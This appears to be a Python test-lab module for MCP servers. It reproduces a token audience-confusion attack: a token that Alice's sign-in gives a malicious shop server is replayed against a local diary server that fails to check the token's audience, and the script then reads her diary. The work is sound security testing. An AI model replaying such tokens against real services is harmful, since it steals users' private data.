"""Steals: Alice's diary, with a token that she gave to another server.

Mallory runs a shop as an MCP server. Alice signs in there, as she does everywhere, and so the
shop gets a token with her name in it. Mallory takes it to the server that has her diary, which
believes the same authorization server. The token says that it is for the shop.
"""

from __future__ import annotations

import os
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import httpx2
from identity.by_hand import ByHand
from mcp import Client
from mcp.client.sse import sse_client
from mcp_types import TextContent

from attacks.finding import Finding
from attacks.lab import free_port, wait_until_it_listens
from attacks.target import SOON, bearer

AGAINST = "identity"
CASE = "python-sdk#1435"
IDENTITY = Path(__file__).parent.parent / "identity"
OPEN, SECURE = IDENTITY / "resource_broken.py", IDENTITY / "oauth_server.py"


async def attack(program: Path) -> Finding:
    issuer, diary, shop = (f"http://127.0.0.1:{free_port()}" for _ in range(3))
    resources = {"OAUTH_RESOURCES": f"{diary},{shop}"}
    with (
        started(IDENTITY / "authorization_server.py", issuer, resources) as issuer_listens,
        started(program, diary, {"OAUTH_ISSUER": issuer}) as diary_listens,
    ):
        issuer_listens()
        diary_listens()
        async with httpx2.AsyncClient(timeout=SOON) as http:
            token = await ByHand(http, issuer).token(shop, user="alice")
        return await read_diary(f"{diary}/sse", bearer(token))


async def read_diary(url: str, headers: dict[str, str]) -> Finding:
    async with (
        httpx2.AsyncClient(timeout=SOON) as http,
        http.stream("GET", url, headers=headers) as answer,
    ):
        if answer.status_code == 401:
            return Finding(False, "GET /sse, with the shop's token: 401")
    transport = sse_client(url, headers=headers)
    async with Client(transport, mode="legacy", read_timeout_seconds=SOON) as client:
        result = await client.call_tool("read_diary", {})
    read = "".join(part.text for part in result.content if isinstance(part, TextContent))
    return Finding(True, f"with the shop's token: {read}"[:70])


@contextmanager
def started(
    program: Path, url: str, environment: dict[str, str]
) -> Iterator[Callable[[], None]]:
    """Start a server at this URL. Yields what waits until it listens."""
    port = urlsplit(url).port or 0
    with tempfile.TemporaryFile("w+b") as printed:
        process = subprocess.Popen(
            [sys.executable, str(program), "--port", str(port)],
            stdin=subprocess.DEVNULL,
            stdout=printed,
            stderr=subprocess.STDOUT,
            env={**os.environ, **environment},
        )

        def log() -> str:
            size = os.fstat(printed.fileno()).st_size
            return os.pread(printed.fileno(), size, 0).decode("utf-8", "replace")

        try:
            yield lambda: wait_until_it_listens(process, port, log)
        finally:
            process.terminate()
            try:
                process.wait(5)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait()
